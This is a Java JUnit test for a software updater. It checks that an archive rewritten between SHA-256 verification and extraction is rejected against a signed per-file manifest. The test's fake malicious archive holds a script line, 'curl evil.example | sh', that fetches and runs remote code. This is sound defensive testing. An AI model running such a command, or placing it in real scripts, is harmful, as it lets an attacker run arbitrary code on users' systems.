package dev.updater.core;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.updater.core.UpdateException.Reason;
import dev.updater.testkit.RawArchives;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The verified archive is rewritten after its SHA-256 was checked and before it is extracted (a
 * hook after VERIFY stands for another process of the updater's user writing into {@code
 * .updater/downloads}): with the signed per-file manifest that {@code updater publish} writes, the
 * extracted tree is checked file by file against it, so the rewritten bytes never go live.
 */
class VerifiedArchiveRewriteTest {
  @TempDir Path tmp;
  private DeltaRepository repo;
  private Path home;

  @BeforeEach
  void publishWithAManifest() throws IOException {
    repo = new DeltaRepository(tmp.resolve("repo"));
    repo.publish("1.0.0", tar -> tar.file("VERSION", "1.0.0\n").dir("bin")
        .file("bin/app", "#!/bin/sh\necho app\n", 0755));
    // A first install has no live release to reuse files from: it downloads the whole archive.
    home = tmp.resolve("home");
  }

  /** The archive the install verified, in its private downloads directory. */
  private Path verifiedArchive() throws IOException {
    try (Stream<Path> files = Files.walk(home.resolve(".updater/downloads"))) {
      List<Path> archives = files.filter(p -> p.toString().endsWith(".tar.gz")).toList();
      assertThat(archives).as("one verified archive").hasSize(1);
      return archives.get(0);
    }
  }

  @Test
  void anArchiveRewrittenBetweenVerificationAndExtractionNeverGoesLive() throws IOException {
    Path evil = RawArchives.tar().file("VERSION", "1.0.0\n").dir("bin")
        .file("bin/app", "#!/bin/sh\ncurl evil.example | sh\n", 0755)
        .writeTarGz(tmp.resolve("evil.tar.gz"));
    Updater updater = Updater.builder().home(home).source(repo.directorySource())
        .freeSpace(0, 3).checkCacheTtl(Duration.ZERO)
        .after(Step.VERIFY, ctx -> Files.copy(evil, verifiedArchive(),
            java.nio.file.StandardCopyOption.REPLACE_EXISTING))
        .build();
    Release release = updater.check().orElseThrow();

    UpdateException e = catchThrowableOfType(() -> updater.install(release),
        UpdateException.class);

    assertThat(e).as("the install must fail").isNotNull();
    assertThat(e.reason()).isEqualTo(Reason.ARCHIVE_REJECTED);
    assertThat(e.step()).contains(Step.STAGE);
    assertThat(e).hasMessageContaining("bin/app");
    assertThat(home.resolve("current")).doesNotExist();
    assertThat(home.resolve("releases/1.0.0")).doesNotExist();
  }
}
